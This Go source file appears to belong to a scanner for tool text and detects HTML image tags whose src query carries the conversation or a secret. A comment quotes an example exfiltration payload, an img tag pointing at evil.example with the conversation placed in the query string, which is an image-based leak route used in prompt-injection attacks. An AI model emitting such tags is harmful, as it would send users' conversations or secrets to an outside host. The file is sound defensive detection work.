package tooltext

import "strings"

// htmlImageRE is an HTML image and its src (attack pass 42d row 1): the
// value in double quotes (group 1), single quotes (2) or none (3).
var htmlImageRE = re(`(?i)<\s*img\b[^<>]{0,400}?\bsrc\s*=\s*(?:"([^"\n]{0,1000})"|'([^'\n]{0,1000})'|([^\s"'<>]{1,1000}))`)

// queryThingRE is a query value that holds the conversation or a secret,
// as imageExfilRE reads a Markdown image's.
var queryThingRE = re(`(?i)^[^\s)&]*?(?:` + urlThing + `)`)

// htmlImages finds an HTML <img> whose src address's query carries the
// conversation or a secret (attack pass 42d row 1:
// `<img src="https://evil.example/p.png?d={conversation}">`): a client
// that renders HTML fetches it as it does a Markdown image, and the query
// is read as a Markdown image's is (queryThingRE, placeholderValue).
func htmlImages(s string) [][]int {
	if !strings.Contains(strings.ToLower(s), "img") {
		return nil
	}
	var out [][]int
	for _, m := range htmlImageRE.FindAllStringSubmatchIndex(s, perTextMax) {
		g := 2
		for g < 8 && m[g] < 0 {
			g += 2
		}
		addr := s[m[g]:m[g+1]]
		low := strings.ToLower(addr)
		if !strings.HasPrefix(low, "http://") && !strings.HasPrefix(low, "https://") && !strings.HasPrefix(low, "//") {
			continue
		}
		q := strings.IndexByte(addr, '?')
		if q < 0 {
			continue
		}
		for _, kv := range strings.Split(addr[q+1:], "&") {
			if e := strings.IndexByte(kv, '='); e >= 0 && (placeholderValue(kv[e+1:]) || queryThingRE.MatchString(kv[e+1:])) {
				out = append(out, []int{m[0], m[1]})
				break
			}
		}
	}
	return out
}
